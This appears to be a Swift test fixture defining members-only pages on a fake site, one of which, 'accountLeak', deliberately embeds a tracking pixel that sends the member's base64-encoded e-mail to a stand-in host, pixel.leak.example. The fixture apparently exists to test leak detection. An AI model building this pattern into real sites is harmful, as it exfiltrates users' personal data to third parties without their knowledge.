import Formats

extension Page {
  /// A page for members alone, which greets by name and shows the e-mail.
  public static let account = members("/account", "Account") { _ in
    "<p><a href=\"/account/orders\">Orders</a> <a href=\"/logout\">Sign out</a></p>"
  }

  /// A page for members alone, which gives the e-mail away in base64.
  public static let accountLeak = members("/account/orders", "Orders", isLinked: false) { member in
    Document.image(
      Address.make(
        "https://pixel.leak.example/p.gif",
        ["u": Base64.encode(member.email.utf8), "page": "orders"]))
  }

  private static func members(
    _ path: String, _ title: String, isLinked: Bool = true,
    body: @escaping @Sendable (SiteMember) -> String
  ) -> Page {
    let route = Route(FakeSite.host, path) { request in
      guard let member = request.member else { return .redirect("/login") }
      let greeting =
        "<p>Hello, \(Document.escape(member.name)) (\(Document.escape(member.email)))</p>"
      return Document(title: title, body: greeting + body(member)).reply(request)
    }
    return Page(path: path, title: title, routes: [route], isLinked: isLinked)
  }
}
